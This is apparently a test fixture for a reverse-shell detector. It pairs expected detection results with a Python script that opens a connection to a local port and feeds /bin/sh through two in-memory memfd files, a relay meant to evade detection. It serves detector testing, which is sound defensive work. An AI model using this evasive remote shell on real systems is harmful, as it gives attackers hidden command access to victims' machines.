# R34: a relay by two files in memory, of which the shell's starter reads one
# stage: behaviour
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.confidence: medium
#   reverse_shell.process_list.length: 3
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4634
#   reverse_shell.process_list.2.process_id: $shell

#: prepare
. lib/peers.sh
commander 4634 3 id
#: act
. lib/peers.sh
act
python3 -c '
import os, socket, subprocess, time
s = socket.create_connection(("127.0.0.1", 4634)); s.setblocking(False)
c, o = os.memfd_create("c"), os.memfd_create("o")
own = os.getpid()
if os.fork() == 0:
    s.close()
    source = os.open(f"/proc/{own}/fd/{c}", os.O_RDONLY)
    sink = os.open(f"/proc/{own}/fd/{o}", os.O_WRONLY | os.O_APPEND)
    os.close(c); os.close(o)
    shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=sink, stderr=sink)
    while os.getppid() == own:
        shell.stdin.write(os.read(source, 4096)); shell.stdin.flush(); time.sleep(0.02)
    os._exit(0)
at = 0
while True:
    try:
        data = s.recv(4096)
        if not data: break
        os.write(c, data)
    except BlockingIOError: time.sleep(0.02)
    data = os.pread(o, 4096, at); at += len(data)
    s.sendall(data)' < /dev/null > /dev/null 2>&1 &
who shell /bin/sh
